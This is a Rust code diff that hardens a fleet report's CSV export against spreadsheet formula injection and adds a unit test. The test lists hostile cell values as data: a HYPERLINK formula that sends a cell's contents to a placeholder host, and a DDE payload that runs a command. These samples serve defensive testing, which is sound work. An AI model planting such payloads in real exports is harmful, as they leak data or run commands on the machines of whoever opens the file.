@@ -211,7 +211,7 @@ fn csv(fleet: &Fleet) -> String {
         "first_problem_reason",
     ];
     header.extend(columns.iter().map(String::as_str));
-    let _ = w.write_record(&header);
+    let _ = w.write_record(header.iter().map(|h| csv_cell(h).into_owned()));
     for m in &fleet.machines {
         let first = m.first_problem(&columns).unwrap_or_default();
         let reason = m
@@ -234,9 +234,21 @@ fn csv(fleet: &Fleet) -> String {
                 .map(|c| c.verdict.clone())
                 .unwrap_or_default()
         }));
-        let _ = w.write_record(&row);
+        let _ = w.write_record(row.iter().map(|c| csv_cell(c).into_owned()));
     }
     String::from_utf8(w.into_inner().unwrap_or_default()).unwrap_or_default()
+}
+
+/// A cell a spreadsheet shows as text: every string in a fleet came from a report file anyone
+/// on that PC could write, and quoting does not stop Excel or LibreOffice from evaluating a
+/// cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return (OWASP's rule: prefix
+/// it with `'`).
+fn csv_cell(text: &str) -> std::borrow::Cow<'_, str> {
+    if text.starts_with(['=', '+', '-', '@', '\t', '\r']) {
+        std::borrow::Cow::Owned(format!("'{text}"))
+    } else {
+        std::borrow::Cow::Borrowed(text)
+    }
 }
 
 use crate::report::html::{esc, CSS};
@@ -313,4 +325,33 @@ fn html(fleet: &Fleet) -> String {
     }
     out.push_str("</body></html>\n");
     out
+}
+
+#[cfg(test)]
+mod tests {
+    use super::csv_cell;
+
+    #[test]
+    fn cells_that_a_spreadsheet_would_evaluate_are_text() {
+        for hostile in [
+            "=HYPERLINK(\"http://x/?\"&A1,\"click\")",
+            "+cmd|' /C calc'!A0",
+            "-1+1",
+            "@SUM(1)",
+            "\t=1",
+            "\r=1",
+        ] {
+            assert_eq!(csv_cell(hostile), format!("'{hostile}"));
+        }
+        for plain in [
+            "pc-01",
+            "agent-https",
+            "fail",
+            "1000",
+            "no answer in 2 s",
+            "",
+        ] {
+            assert_eq!(csv_cell(plain), plain);
+        }
+    }
 }
